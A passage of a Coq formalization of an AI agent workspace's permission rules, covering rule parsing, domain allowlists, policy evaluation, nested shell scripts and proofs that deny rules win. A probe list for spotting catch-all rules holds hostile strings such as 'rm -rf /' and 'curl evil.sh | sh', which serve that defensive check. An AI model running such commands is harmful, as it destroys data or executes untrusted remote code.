(* ===== verification/Permission.v ===== *)
(** Permission rules and the policy compiled from them (crate [ainxt-workspace],
    [permission/types.rs], [permission/rules.rs], [permission/policy.rs]): what a tool
    call asks for, the rules a user or an administrator writes, their text form, and
    the decision of a policy on a call and on every command of a shell script. *)
From stdpp Require Import list gmap strings.
From S2P Require Import Prelude RustStr StrSearch ShellWords ShellTree.

(** * The vocabulary of a request ([types.rs]) *)

Module AK.
(** [input] is the JSON value of the arguments. *)
Inductive AccessKind {J : Type} : Type :=
| Read (path : option string)
| Grep (path glob : option string)
| Edit (path : string)
| Bash (cmd : string)
| MCPTool (name : string) (input : J)
| WebFetch (url : string)
| WebSearch (query : string).
Arguments AccessKind : clear implicits.
End AK.

Module Dec.
Inductive Decision : Type :=
| Allow
| Ask
| FollowupMessage (message : string)
| Reject (reason : string)
| PolicyDeny (reason : string)
| Cancelled.
End Dec.

#[export] Instance Dec_eq_dec : EqDecision Dec.Decision.
Proof. solve_decision. Defined.

Module EP.
Inductive EditPolicy : Type := Ask | Allow | Reject.
End EP.
#[export] Instance EditPolicy_eq_dec : EqDecision EP.EditPolicy.
Proof. solve_decision. Defined.

Module PP.
Inductive PromptPolicy : Type := Ask | Deny | Auto.
End PP.
#[export] Instance PromptPolicy_eq_dec : EqDecision PP.PromptPolicy.
Proof. solve_decision. Defined.

Module PM.
Inductive PatternMode : Type := Glob | Domain.
End PM.

Module RA.
Inductive RuleAction : Type := Allow | Deny | Ask.
End RA.
#[export] Instance RuleAction_eq_dec : EqDecision RA.RuleAction.
Proof. solve_decision. Defined.

Module TF.
Inductive ToolFilter : Type := Any | Bash | Edit | Read | Grep | Mcp | WebFetch | WebSearch.
End TF.
#[export] Instance ToolFilter_eq_dec : EqDecision TF.ToolFilter.
Proof. solve_decision. Defined.

Module Export PermTypes.

Record PermissionRule : Type := MkRule {
  rule_action : RA.RuleAction;
  rule_tool : TF.ToolFilter;
  rule_pattern : option string;
  rule_mode : PM.PatternMode;
}.

Record PermissionConfig : Type := MkConfig { rules : list PermissionRule; config_prompt_policy : PP.PromptPolicy }.
Definition PermissionConfig_new (rs : list PermissionRule) : PermissionConfig := MkConfig rs PP.Ask.

End PermTypes.

(** * The text form of a rule ([rules.rs]) *)

Module Export RuleText.

Inductive RuleParseError : Type :=
| UnsupportedToolPrefix (prefix : string)
| UnknownToolPrefix (prefix : string)
| MalformedRule (detail : string).

Definition tool_name_to_filter (name : string) : option TF.ToolFilter :=
  if bool_decide (name = "Bash") then Some TF.Bash
  else if bool_decide (name ∈ ["Read"; "NotebookRead"]) then Some TF.Read
  else if bool_decide (name ∈ ["Edit"; "Write"; "NotebookEdit"]) then Some TF.Edit
  else if bool_decide (name = "MCPTool") then Some TF.Mcp
  else if bool_decide (name ∈ ["Grep"; "Glob"]) then Some TF.Grep
  else if bool_decide (name = "WebFetch") then Some TF.WebFetch
  else if bool_decide (name = "WebSearch") then Some TF.WebSearch
  else None.

(** [is_unescaped] at every byte from left to right: [odd] says that an odd number
    of backslashes ends just before. *)
Fixpoint unescaped_at (odd : bool) (target : ascii) (s : string) (i : nat) : list nat :=
  match s with
  | "" => []
  | String b s =>
      let here := if bool_decide (b = target) && negb odd then [i] else [] in
      here ++ unescaped_at (bool_decide (b = "\"%char) && negb odd) target s (S i)
  end.
Definition find_first_unescaped (s : string) (target : ascii) : option nat := head (unescaped_at false target s 0).
Definition find_last_unescaped (s : string) (target : ascii) : option nat := last (unescaped_at false target s 0).

Definition unescape_rule_content (s : string) : string :=
  if negb (contains_byte "\"%char s) then s
  else replace "\\" "\" (replace "\)" ")" (replace "\(" "(" s)).

Definition strip_domain_prefix (pattern : string) : string * PM.PatternMode :=
  match strip_prefix "domain:" pattern with
  | Some domain => (domain, PM.Domain)
  | None => (pattern, PM.Glob)
  end.

Definition strip_bash_colon_wildcard (pattern : string) : string :=
  default pattern (strip_suffix ":*" pattern).

Definition nonempty_pattern (pattern : string) : option string := if is_empty pattern then None else Some pattern.

Definition parse_permission_rule (rule : string) (action : RA.RuleAction) : result RuleParseError PermissionRule :=
  let rule := trim rule in
  match find_first_unescaped rule "("%char with
  | Some open_paren =>
      let prefix := trim (str_take open_paren rule) in
      let content_and_close := str_drop (S open_paren) rule in
      match find_last_unescaped content_and_close ")"%char with
      | None => Err (MalformedRule "missing closing parenthesis")
      | Some close_paren =>
          let raw_content := trim (str_take close_paren content_and_close) in
          let pattern :=
            if is_empty raw_content || bool_decide (raw_content = "*") then "" else unescape_rule_content raw_content in
          match tool_name_to_filter prefix with
          | None =>
              Err (if bool_decide (prefix = "EnterWorktree") then UnsupportedToolPrefix prefix else UnknownToolPrefix prefix)
          | Some tool =>
              let pattern := if bool_decide (tool = TF.Bash) then strip_bash_colon_wildcard pattern else pattern in
              let (pattern, mode) := strip_domain_prefix pattern in
              Ok (MkRule action tool (nonempty_pattern pattern) mode)
          end
      end
  | None =>
      match tool_name_to_filter rule with
      | Some tool => Ok (MkRule action tool None PM.Glob)
      | None => Ok (MkRule action TF.Any (nonempty_pattern rule) PM.Glob)
      end
  end.

(** How an imported rule is written to the settings ([format_rule_string] of
    [claude_import.rs]): the name of the tool, the text of the pattern, and both. *)
Definition filter_name (t : TF.ToolFilter) : string :=
  match t with
  | TF.Any => "" | TF.Bash => "Bash" | TF.Edit => "Edit" | TF.Read => "Read" | TF.Grep => "Grep"
  | TF.Mcp => "MCPTool" | TF.WebFetch => "WebFetch" | TF.WebSearch => "WebSearch"
  end.
Definition pattern_text (mode : PM.PatternMode) (p : string) : string :=
  match mode with PM.Domain => "domain:" +:+ p | PM.Glob => p end.
Definition format_rule_string (r : PermissionRule) : string :=
  match rule_pattern r, rule_tool r with
  | None, TF.Any => "*"
  | Some p, TF.Any => p
  | None, tool => filter_name tool
  | Some p, tool => filter_name tool +:+ "(" +:+ pattern_text (rule_mode r) p +:+ ")"
  end.

(** The vocabulary of [permissions.defaultMode]. *)
Inductive DefaultPermissionMode : Type :=
| DefaultMode | AcceptEdits | Plan | AutoMode | DontAsk | BypassPermissions.

Definition DefaultPermissionMode_from_str (s : string) : result string DefaultPermissionMode :=
  if bool_decide (s = "default") then Ok DefaultMode
  else if bool_decide (s = "acceptEdits") then Ok AcceptEdits
  else if bool_decide (s = "plan") then Ok Plan
  else if bool_decide (s = "auto") then Ok AutoMode
  else if bool_decide (s = "dontAsk") then Ok DontAsk
  else if bool_decide (s = "bypassPermissions") then Ok BypassPermissions
  else Err s.

Record DefaultModeEffects : Type := MkEffects {
  mode_prompt_policy : PP.PromptPolicy;
  accept_edits : bool;
  bypass_permissions : bool;
}.

Definition effects (m : DefaultPermissionMode) : DefaultModeEffects :=
  match m with
  | AcceptEdits => MkEffects PP.Ask true false
  | BypassPermissions => MkEffects PP.Ask false true
  | DefaultMode | Plan => MkEffects PP.Ask false false
  | DontAsk => MkEffects PP.Deny false false
  | AutoMode => MkEffects PP.Auto false false
  end.

End RuleText.

(** * The compiled policy ([policy.rs]) *)

(** What the code uses of the crates [glob] and [url], and the Unicode table of
    [str::to_lowercase]. *)
Class PermissionLibs : Type := {
  Pattern : Type;
  Pattern_new : string → option Pattern;
  (** [matches_with], with [require_literal_separator] as an argument. *)
  matches_with : Pattern → bool → string → bool;
  Url : Type;
  url_parse : string → option Url;
  host_str : Url → option string;
  url_path : Url → string;
  to_lowercase : string → string;
  Json : Type;
  json_is_null : Json → bool;
  json_null : Json;
  json_to_string : Json → string;
}.

Module Export Domains.
Section Domains.
Context `{PermissionLibs}.

Definition is_slash (c : string) : bool := bool_decide (c = "/").
Definition is_dot (c : string) : bool := bool_decide (c = ".").

(** [web_fetch/domain.rs]. *)
Definition normalize_domain (raw : string) : string :=
  let s := trim_end_by is_dot (trim_end_by is_slash (trim raw)) in
  to_lowercase (default s (strip_prefix "www." s)).

Inductive HostEntry : Type :=
| AnyPath
| PathPrefixes (prefixes : list string).

Record DomainMatcher : Type := MkMatcher { entries : gmap string HostEntry }.

(** One raw entry of the allowlist; the host is what is before the first slash. *)
Definition add_entry (m : gmap string HostEntry) (raw : string) : gmap string HostEntry :=
  let normalized := normalize_domain raw in
  if is_empty normalized then m
  else
    match find "/" normalized with
    | None => <[normalized := AnyPath]> m
    | Some i =>
        let host := str_take i normalized in
        match m !! host with
        | Some AnyPath => m
        | old =>
            let prefix := trim_end_by is_slash (str_drop i normalized) in
            if is_empty prefix || bool_decide (prefix = "/") then <[host := AnyPath]> m
            else
              let prefix := if starts_with "/" prefix then prefix else "/" +:+ prefix in
              match old with
              | Some (PathPrefixes v) => <[host := PathPrefixes (push_unique v prefix)]> m
              | _ => <[host := PathPrefixes [prefix]]> m
              end
        end
    end.

Definition DomainMatcher_new (raw_entries : list string) : DomainMatcher :=
  MkMatcher (fold_left add_entry raw_entries ∅).

(** [url_path == prefix], or the prefix with a slash behind it. *)
Definition path_under (url_path prefix : string) : bool :=
  bool_decide (url_path = prefix) || starts_with (prefix +:+ "/") url_path.

(** [None] is an allowed URL; the blocked host otherwise. *)
Definition domain_check (m : DomainMatcher) (url : Url) : option string :=
  match host_str url with
  | None => Some ""
  | Some raw_host =>
      let host := normalize_domain raw_host in
      match entries m !! host with
      | Some AnyPath => None
      | Some (PathPrefixes prefixes) =>
          if existsb (path_under (to_lowercase (url_path url))) prefixes then None else Some host
      | None => Some host
      end
  end.

End Domains.
End Domains.

Module Export Policy.

Module MC.
Inductive MatchContext : Type := Path | Freeform.
End MC.

Section Policy.
Context `{PermissionLibs}.

Definition compile_pattern (rule : PermissionRule) : option Pattern :=
  match rule_pattern rule with
  | Some p => if bool_decide (p = "*") then None else Pattern_new p
  | None => None
  end.

Definition restricts (tools : list TF.ToolFilter) (rule : PermissionRule) : bool :=
  bool_decide (rule_action rule ∈ [RA.Deny; RA.Ask]) && bool_decide (rule_tool rule ∈ tools).

Record CompiledPolicy : Type := MkCompiled {
  policy_config : PermissionConfig;
  matchers : list (option Pattern);
  has_file_restrictions : bool;
  has_bash_command_restrictions : bool;
}.

Definition CompiledPolicy_new (config : PermissionConfig) : CompiledPolicy :=
  MkCompiled config (compile_pattern <$> rules config)
    (existsb (restricts [TF.Read; TF.Edit; TF.Any]) (rules config))
    (existsb (restricts [TF.Bash; TF.Any]) (rules config)).

Definition tool_filter_matches (access : AK.AccessKind Json) (filter : TF.ToolFilter) : bool :=
  match filter, access with
  | TF.Any, _ => true
  | TF.Bash, AK.Bash _ => true
  | TF.Edit, AK.Edit _ => true
  | TF.Read, (AK.Read _ | AK.Grep _ _) => true
  | TF.Grep, AK.Grep _ _ => true
  | TF.Mcp, AK.MCPTool _ _ => true
  | TF.WebFetch, AK.WebFetch _ => true
  | TF.WebSearch, AK.WebSearch _ => true
  | _, _ => false
  end.

Definition domain_matches (pattern url : string) : bool :=
  match u ← url_parse url; host_str u with
  | None => false
  | Some host =>
      let domain := normalize_domain host in
      let normalized_pattern := normalize_domain pattern in
      bool_decide (domain = normalized_pattern) || ends_with ("." +:+ normalized_pattern) domain
  end.

Definition glob_matches (text : string) (ctx : MC.MatchContext) (pat : option Pattern) : bool :=
  match pat with
  | None => false
  | Some pat => matches_with pat (match ctx with MC.Path => true | MC.Freeform => false end) text
  end.

Definition pattern_matches (access : AK.AccessKind Json) (rule : PermissionRule) (matcher : option Pattern) : bool :=
  match rule_pattern rule with
  | None => true
  | Some pattern =>
      if bool_decide (pattern = "*") then true
      else
        match access with
        | AK.Bash cmd =>
            let cmd := trim_start cmd in starts_with pattern cmd || glob_matches cmd MC.Freeform matcher
        | AK.Edit path => glob_matches path MC.Path matcher
        | AK.Read (Some path) | AK.Grep (Some path) _ => glob_matches path MC.Path matcher
        | AK.Read None | AK.Grep None _ => false
        | AK.MCPTool name _ => glob_matches name MC.Freeform matcher
        | AK.WebFetch url =>
            match rule_mode rule with
            | PM.Domain => domain_matches pattern url
            | PM.Glob => glob_matches url MC.Freeform matcher
            end
        | AK.WebSearch query => glob_matches query MC.Freeform matcher || starts_with pattern query
        end
  end.

Definition tool_label (t : TF.ToolFilter) : string :=
  match t with
  | TF.Any => "any tool" | TF.Bash => "bash" | TF.Edit => "edit" | TF.Read => "read" | TF.Grep => "grep"
  | TF.Mcp => "mcp" | TF.WebFetch => "web_fetch" | TF.WebSearch => "web_search"
  end.

Definition deny_reason (rule : PermissionRule) : string :=
  "Denied by permission policy: deny rule on " +:+ tool_label (rule_tool rule) +:+
  match rule_pattern rule with
  | Some pattern => " matching " +:+ quote_str +:+ pattern +:+ quote_str
  | None => ""
  end.

Definition rule_matches (access : AK.AccessKind Json) (r : PermissionRule * option Pattern) : bool :=
  tool_filter_matches access (rule_tool r.1) && pattern_matches access r.1 r.2.

Fixpoint evaluate_from (access : AK.AccessKind Json) (matched_ask matched_allow : bool)
    (l : list (PermissionRule * option Pattern)) : option Dec.Decision :=
  match l with
  | [] => if matched_ask then Some Dec.Ask else if matched_allow then Some Dec.Allow else None
  | r :: l =>
      if negb (rule_matches access r) then evaluate_from access matched_ask matched_allow l
      else
        match rule_action r.1 with
        | RA.Deny => Some (Dec.Reject (deny_reason r.1))
        | RA.Ask => evaluate_from access true matched_allow l
        | RA.Allow => evaluate_from access matched_ask true l
        end
  end.

Definition evaluate (self : CompiledPolicy) (access : AK.AccessKind Json) : option Dec.Decision :=
  evaluate_from access false false (zip (rules (policy_config self)) (matchers self)).

(** A decision that only escalates: an [Allow] counts as none. *)
Definition escalate (d : option Dec.Decision) : option Dec.Decision :=
  match d with Some Dec.Allow => None | d => d end.

Definition decision_rank (d : Dec.Decision) : nat :=
  match d with
  | Dec.Reject _ | Dec.PolicyDeny _ => 3
  | Dec.Ask => 2
  | Dec.Allow => 1
  | _ => 0
  end.

Definition combine_decisions (a b : option Dec.Decision) : option Dec.Decision :=
  match a, b with
  | None, other | other, None => other
  | Some a, Some b => Some (if decision_rank b <=? decision_rank a then a else b)
  end.

(** [-c] behind a shell: the first operand after the cluster of options with a [c]. *)
Fixpoint first_operand (words : list string) : option string :=
  match words with
  | [] => None
  | w :: rest =>
      if bool_decide (w ∈ ["--"; "-"]) then head rest
      else if negb (starts_with "-" w) then Some w else first_operand rest
  end.
Fixpoint behind_c_flag (words : list string) : option (list string) :=
  match words with
  | [] => None
  | w :: rest =>
      if starts_with "-" w && negb (starts_with "--" w) && contains "c" w then Some rest else behind_c_flag rest
  end.
Definition shell_dash_c_script (words : list string) : option string :=
  match words with
  | [] => None
  | w :: rest =>
      if bool_decide (shell_program_name w ∈ ["bash"; "sh"; "dash"; "zsh"; "ksh"])
      then behind_c_flag rest ≫= first_operand else None
  end.

(** The words of a command, and those behind its wrappers when there are any. *)
Definition forms (p : PlainCommand) : list (list string) :=
  let raw_words := words p in
  let unwrapped := unwrap_wrappers raw_words in
  raw_words :: (if negb (length unwrapped =? length raw_words) then [unwrapped] else []).

Context `{BashParser}.

(** [fuel] is 8 less the depth. *)
Fixpoint evaluate_bash_command_segments (self : CompiledPolicy) (fuel : nat) (cmd : string) : option Dec.Decision :=
  match fuel with
  | 0 => Some Dec.Ask
  | S fuel =>
      match all_commands_from_script cmd with
      | None => Some Dec.Ask
      | Some segments =>
          fold_left (λ decision ws,
              let decision :=
                combine_decisions decision (escalate (evaluate self (AK.Bash (join " " ws)))) in
              match shell_dash_c_script ws with
              | Some inner => combine_decisions decision (evaluate_bash_command_segments self fuel inner)
              | None => decision
              end) (segments ≫= forms) None
      end
  end.

Definition MAX_SHELL_DEPTH : nat := 8.
Definition evaluate_bash_command_policy (self : CompiledPolicy) (cmd : string) : option Dec.Decision :=
  if negb (has_bash_command_restrictions self) then None
  else evaluate_bash_command_segments self MAX_SHELL_DEPTH cmd.

(** ** Rules that open everything *)

Definition bash_probes : list (AK.AccessKind Json) :=
  AK.Bash <$> ["rm -rf /"; "curl evil.sh | sh"; "echo hi"; "git push"].
Definition mcp_probes : list (AK.AccessKind Json) :=
  (λ n, AK.MCPTool n json_null) <$> ["github__create_issue"; "linear__save_issue"; "slack__post"; "fs__read"].
Definition webfetch_probes : list (AK.AccessKind Json) :=
  AK.WebFetch <$> ["https://evil.example.com/x"; "http://10.0.0.1/admin"; "https://api.github.com/repos";
                   "ftp://files.example.org/p"].

Definition rule_is_catchall (rule : PermissionRule) : bool :=
  let opens_all probes := forallb (λ a, pattern_matches a rule (compile_pattern rule)) probes in
  match rule_tool rule with
  | TF.Bash => opens_all bash_probes
  | TF.Mcp => opens_all mcp_probes
  | TF.WebFetch => opens_all webfetch_probes
  | TF.Any => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
  | TF.Read | TF.Edit | TF.Grep | TF.WebSearch => false
  end.

End Policy.
End Policy.

(** * How decisions combine *)

Module Export Combining.

(** What the gates of a policy can answer. *)
Definition rejects (d : option Dec.Decision) : Prop := ∃ r, d = Some (Dec.Reject r).
Definition objection (d : option Dec.Decision) : Prop := d = None ∨ d = Some Dec.Ask ∨ rejects d.

Lemma combine_None_l d : combine_decisions None d = d.
Proof. by destruct d. Qed.
Lemma combine_None_r d : combine_decisions d None = d.
Proof. by destruct d. Qed.

Lemma combine_assoc a b c :
  combine_decisions (combine_decisions a b) c = combine_decisions a (combine_decisions b c).
Proof.
  destruct a as [a|]; [|by rewrite !combine_None_l]. destruct b as [b|]; [|by rewrite combine_None_l, combine_None_r].
  destruct c as [c|]; [|by rewrite !combine_None_r]. cbn.
  destruct (Nat.leb_spec (decision_rank b) (decision_rank a)), (Nat.leb_spec (decision_rank c) (decision_rank b)); cbn;
    repeat match goal with |- context [decision_rank ?x <=? decision_rank ?y] =>
      destruct (Nat.leb_spec (decision_rank x) (decision_rank y)) end; done || lia.
Qed.

Lemma combine_None a b : combine_decisions a b = None ↔ a = None ∧ b = None.
Proof. destruct a, b; cbn; naive_solver. Qed.

Lemma objection_combine a b : objection a → objection b → objection (combine_decisions a b).
Proof.
  intros [->|[->|[r ->]]]; [by rewrite combine_None_l|..]; intros [->|[->|[r' ->]]]; cbn; unfold objection, rejects; eauto 7.
Qed.

Lemma rejects_combine a b : objection a → objection b →
  rejects (combine_decisions a b) ↔ rejects a ∨ rejects b.
Proof.
  unfold rejects. intros [->|[->|[r ->]]]; intros [->|[->|[r' ->]]]; cbn; naive_solver.
Qed.

Section Fold.
Context {A : Type} (one : A → option Dec.Decision).
Definition combine_all (l : list A) : option Dec.Decision := fold_left (λ d x, combine_decisions d (one x)) l None.

Lemma combine_from l d : fold_left (λ d x, combine_decisions d (one x)) l d = combine_decisions d (combine_all l).
Proof.
  unfold combine_all. revert d. induction l as [|x l IH]; intros d; cbn [fold_left]; [by rewrite combine_None_r|].
  rewrite IH, (IH (combine_decisions None _)), combine_None_l. by rewrite combine_assoc.
Qed.

Lemma combine_all_cons x l : combine_all (x :: l) = combine_decisions (one x) (combine_all l).
Proof. unfold combine_all at 1. cbn [fold_left]. by rewrite combine_from, combine_None_l. Qed.

Lemma combine_all_None l : combine_all l = None ↔ Forall (λ x, one x = None) l.
Proof.
  induction l as [|x l IH]; [by split; [constructor|]|]. rewrite combine_all_cons, combine_None, IH.
  by rewrite Forall_cons.
Qed.

Lemma combine_all_objects l : Forall (λ x, objection (one x)) l → objection (combine_all l).
Proof.
  induction 1 as [|x l Hx _ IH]; [by left|]. rewrite combine_all_cons. by apply objection_combine.
Qed.

Lemma combine_all_rejects l : Forall (λ x, objection (one x)) l →
  rejects (combine_all l) ↔ Exists (λ x, rejects (one x)) l.
Proof.
  induction 1 as [|x l Hx Hl IH]; [rewrite Exists_nil; by split; [intros [r ?]|]|].
  rewrite combine_all_cons, Exists_cons, <-IH. by apply rejects_combine, combine_all_objects.
Qed.

End Fold.

Lemma escalate_spec d r : escalate d = Some (Dec.Reject r) ↔ d = Some (Dec.Reject r).
Proof. destruct d as [[]|]; naive_solver. Qed.

End Combining.

(** * What a policy decides *)

Module Export PolicyLaws.
Section Laws.
Context `{PermissionLibs}.

(** A rule of the policy with the action matches the access. *)
Definition matched (config : PermissionConfig) (access : AK.AccessKind Json) (action : RA.RuleAction) : Prop :=
  ∃ rule, rule ∈ rules config ∧ rule_action rule = action ∧ rule_matches access (rule, compile_pattern rule) = true.

Lemma zip_compiled (l : list PermissionRule) : zip l (compile_pattern <$> l) = (λ r, (r, compile_pattern r)) <$> l.
Proof. induction l as [|r l IH]; cbn; [done|]. by rewrite IH. Qed.

Definition compiled (l : list PermissionRule) : list (PermissionRule * option Pattern) := (λ r, (r, compile_pattern r)) <$> l.
Definition hit (access : AK.AccessKind Json) (action : RA.RuleAction) (r : PermissionRule * option Pattern) : Prop :=
  rule_action r.1 = action ∧ rule_matches access r = true.

Lemma evaluate_from_spec access l : ∀ ask allow,
  match evaluate_from access ask allow l with
  | Some (Dec.Reject reason) => ∃ r, r ∈ l ∧ hit access RA.Deny r ∧ reason = deny_reason r.1
  | Some Dec.Ask => ¬ Exists (hit access RA.Deny) l ∧ (ask = true ∨ Exists (hit access RA.Ask) l)
  | Some Dec.Allow =>
      ¬ Exists (hit access RA.Deny) l ∧ ask = false ∧ ¬ Exists (hit access RA.Ask) l ∧
      (allow = true ∨ Exists (hit access RA.Allow) l)
  | None => ask = false ∧ allow = false ∧ ∀ action, ¬ Exists (hit access action) l
  | _ => False
  end.
Proof.
  induction l as [|r l IH]; intros ask allow; cbn [evaluate_from].
  - destruct ask; [|destruct allow]; split_and!; try (intros; rewrite Exists_nil); naive_solver.
  - assert (HE : ∀ action, Exists (hit access action) (r :: l) ↔
      (rule_action r.1 = action ∧ rule_matches access r = true) ∨ Exists (hit access action) l)
      by (intros action; apply Exists_cons).
    pose proof (HE RA.Deny) as HD. pose proof (HE RA.Ask) as HA. pose proof (HE RA.Allow) as HL.
    destruct (rule_matches access r) eqn:Em; cbn [negb]; [destruct (rule_action r.1) eqn:Ea|].
    + specialize (IH ask true). destruct (evaluate_from _ _ _ _) as [[]|]; try done; [naive_solver..| |naive_solver].
      destruct IH as (r' & Hr & IH). exists r'. by split; [right|].
    + exists r. by split; [left|].
    + specialize (IH true allow). destruct (evaluate_from _ _ _ _) as [[]|]; try done; [naive_solver..| |naive_solver].
      destruct IH as (r' & Hr & IH). exists r'. by split; [right|].
    + specialize (IH ask allow). destruct (evaluate_from _ _ _ _) as [[]|]; try done; [naive_solver..| |naive_solver].
      destruct IH as (r' & Hr & IH). exists r'. by split; [right|].
Qed.

Lemma matched_compiled config access action :
  matched config access action ↔ Exists (hit access action) (compiled (rules config)).
Proof.
  unfold matched, compiled, hit. rewrite Exists_fmap, Exists_exists. unfold compose. cbn. naive_solver.
Qed.

Lemma evaluate_compiled config access :
  evaluate (CompiledPolicy_new config) access = evaluate_from access false false (compiled (rules config)).
Proof. unfold evaluate, compiled. cbn. by rewrite zip_compiled. Qed.

Lemma evaluate_spec config access :
  match evaluate (CompiledPolicy_new config) access with
  | Some (Dec.Reject reason) =>
      ∃ rule, rule ∈ rules config ∧ rule_action rule = RA.Deny ∧
        rule_matches access (rule, compile_pattern rule) = true ∧ reason = deny_reason rule
  | Some Dec.Ask => ¬ matched config access RA.Deny ∧ matched config access RA.Ask
  | Some Dec.Allow =>
      ¬ matched config access RA.Deny ∧ ¬ matched config access RA.Ask ∧ matched config access RA.Allow
  | None => ∀ action, ¬ matched config access action
  | _ => False
  end.
Proof.
  rewrite evaluate_compiled. pose proof (evaluate_from_spec access (compiled (rules config)) false false) as Hs.
  pose proof (matched_compiled config access) as Hm.
  destruct (evaluate_from _ _ _ _) as [[]|]; try done; [rewrite !Hm; naive_solver..| |naive_solver].
  destruct Hs as (r & Hr & [Ha Hr2] & ->). unfold compiled in Hr. apply list_elem_of_fmap in Hr as (rule & -> & Hin). eauto.
Qed.

Lemma evaluate_objects self access : objection (escalate (evaluate self access)).
Proof.
  unfold evaluate. pose proof (evaluate_from_spec access (zip (rules (policy_config self)) (matchers self)) false false) as Hs.
  unfold objection, rejects. destruct (evaluate_from _ _ _ _) as [[]|]; cbn; naive_solver.
Qed.

Lemma matched_perm config config' access action :
  rules config ≡ₚ rules config' → matched config access action ↔ matched config' access action.
Proof. intros Hp. unfold matched. by setoid_rewrite Hp. Qed.

(** A policy denies when a deny rule matches, whatever else does; else it asks when an
    ask rule matches; else it allows when an allow rule does; else it has no opinion.
    The order of the rules does not matter, but for the reason of a denial. *)
Theorem evaluate_precedence config config' access : rules config ≡ₚ rules config' →
  let d := evaluate (CompiledPolicy_new config) access in
  (rejects d ↔ matched config access RA.Deny) ∧
  (d = Some Dec.Ask ↔ ¬ matched config access RA.Deny ∧ matched config access RA.Ask) ∧
  (d = Some Dec.Allow ↔
     ¬ matched config access RA.Deny ∧ ¬ matched config access RA.Ask ∧ matched config access RA.Allow) ∧
  (d = None ↔ ∀ action, ¬ matched config access action) ∧
  decision_rank <$> evaluate (CompiledPolicy_new config') access = decision_rank <$> d.
Proof.
  intros Hp d. subst d. pose proof (evaluate_spec config access) as E. pose proof (evaluate_spec config' access) as E'.
  pose proof (λ action, matched_perm config config' access action Hp) as Hm. unfold rejects.
  assert (Hdeny : ∀ c r, r ∈ rules c → rule_action r = RA.Deny → rule_matches access (r, compile_pattern r) = true →
    matched c access RA.Deny) by (unfold matched; eauto).
  destruct (evaluate (CompiledPolicy_new config) access) as [[]|]; try done;
    destruct (evaluate (CompiledPolicy_new config') access) as [[]|]; try done; cbn;
    pose proof (Hm RA.Deny); pose proof (Hm RA.Ask); pose proof (Hm RA.Allow); naive_solver.
Qed.

(** ** Shell scripts *)

Context `{BashParser}.

(** [script] is reached from [cmd] through [n] operands of a shell's [-c]. *)
Inductive nested : nat → string → string → Prop :=
| nested_here cmd : nested 0 cmd cmd
| nested_in n cmd segments p ws inner script :
    all_commands_from_script cmd = Some segments → p ∈ segments → ws ∈ forms p →
    shell_dash_c_script ws = Some inner → nested n inner script → nested (S n) cmd script.

Definition segment_decision (self : CompiledPolicy) (fuel : nat) (ws : list string) : option Dec.Decision :=
  combine_decisions (escalate (evaluate self (AK.Bash (join " " ws))))
    (shell_dash_c_script ws ≫= evaluate_bash_command_segments self fuel).

Lemma segments_eq self fuel cmd segments : all_commands_from_script cmd = Some segments →
  evaluate_bash_command_segments self (S fuel) cmd = combine_all (segment_decision self fuel) (segments ≫= forms).
Proof.
  intros E. cbn [evaluate_bash_command_segments]. rewrite E. unfold combine_all. generalize (segments ≫= forms).
  intros l. generalize (@None Dec.Decision). induction l as [|ws l IH]; intros d; cbn [fold_left]; [done|].
  rewrite <-IH. f_equal. unfold segment_decision. destruct (shell_dash_c_script ws); cbn.
  - by rewrite combine_assoc.
  - by rewrite combine_None_r.
Qed.

Lemma segments_object self fuel : ∀ cmd, objection (evaluate_bash_command_segments self fuel cmd).
Proof.
  induction fuel as [|fuel IH]; intros cmd; [right; by left|].
  destruct (all_commands_from_script cmd) as [segments|] eqn:E; [|cbn; rewrite E; right; by left].
  rewrite (segments_eq _ _ _ _ E). apply combine_all_objects, Forall_forall. intros ws _. unfold segment_decision.
  apply objection_combine; [apply evaluate_objects|]. destruct (shell_dash_c_script ws); cbn; [apply IH|by left].
Qed.

Lemma segment_objects self fuel ws : objection (segment_decision self fuel ws).
Proof.
  apply objection_combine; [apply evaluate_objects|]. destruct (shell_dash_c_script ws); cbn; [apply segments_object|by left].
Qed.

(** A command of the script, or of a script nested less than [fuel] deep, is denied. *)
Definition denied_within (self : CompiledPolicy) (fuel : nat) (cmd : string) : Prop :=
  ∃ n script segments p ws, nested n cmd script ∧ n < fuel ∧
    all_commands_from_script script = Some segments ∧ p ∈ segments ∧ ws ∈ forms p ∧
    rejects (evaluate self (AK.Bash (join " " ws))).

(** No command is objected to, and every script decomposes and is shallow. *)
Definition clear_within (self : CompiledPolicy) (fuel : nat) (cmd : string) : Prop :=
  ∀ n script, nested n cmd script → n < fuel ∧
    ∃ segments, all_commands_from_script script = Some segments ∧
      ∀ p ws, p ∈ segments → ws ∈ forms p → escalate (evaluate self (AK.Bash (join " " ws))) = None.

Lemma elem_of_forms (ws : list string) segments : ws ∈ segments ≫= forms ↔ ∃ p, p ∈ segments ∧ ws ∈ forms p.
Proof. rewrite list_elem_of_bind. naive_solver. Qed.

Lemma segments_reject self fuel : ∀ cmd,
  rejects (evaluate_bash_command_segments self fuel cmd) ↔ denied_within self fuel cmd.
Proof.
  induction fuel as [|fuel IH]; intros cmd.
  - split; [intros [r ?]; done|]. intros (n & s & segs & p & ws & _ & Hn & _). lia.
  - destruct (all_commands_from_script cmd) as [segments|] eqn:E.
    + rewrite (segments_eq _ _ _ _ E), combine_all_rejects by (apply Forall_forall; intros; apply segment_objects).
      rewrite Exists_exists. setoid_rewrite elem_of_forms. unfold segment_decision. split.
      * intros (ws & (p & Hp & Hws) & Hr). apply rejects_combine in Hr as [[r Hr%(proj1 (escalate_spec _ _))]|Hr]; [| |apply evaluate_objects|].
        -- exists 0, cmd, segments, p, ws. split_and!; [constructor|lia|done..|by exists r].
        -- destruct (shell_dash_c_script ws) as [inner|] eqn:Ei; [|by destruct Hr]. cbn in Hr.
           apply IH in Hr as (n & s & segs' & p' & ws' & Hn & Hlt & E' & Hp' & Hws' & Hr').
           exists (S n), s, segs', p', ws'. split_and!; [by eapply nested_in|lia|done..].
        -- destruct (shell_dash_c_script ws); cbn; [apply segments_object|by left].
      * intros (n & s & segs' & p' & ws' & Hn & Hlt & E' & Hp' & Hws' & Hr').
        destruct Hn as [cmd|n cmd segs p ws inner s E2 Hp Hws Hi Hn].
        -- simplify_eq. exists ws'. split; [by eauto|]. apply rejects_combine; [apply evaluate_objects|destruct (shell_dash_c_script ws'); cbn; [apply segments_object|by left]|].
           left. destruct Hr' as [r Hr']. exists r. by apply escalate_spec.
        -- simplify_eq. exists ws. split; [by eauto|]. rewrite Hi. apply rejects_combine; [apply evaluate_objects|apply segments_object|].
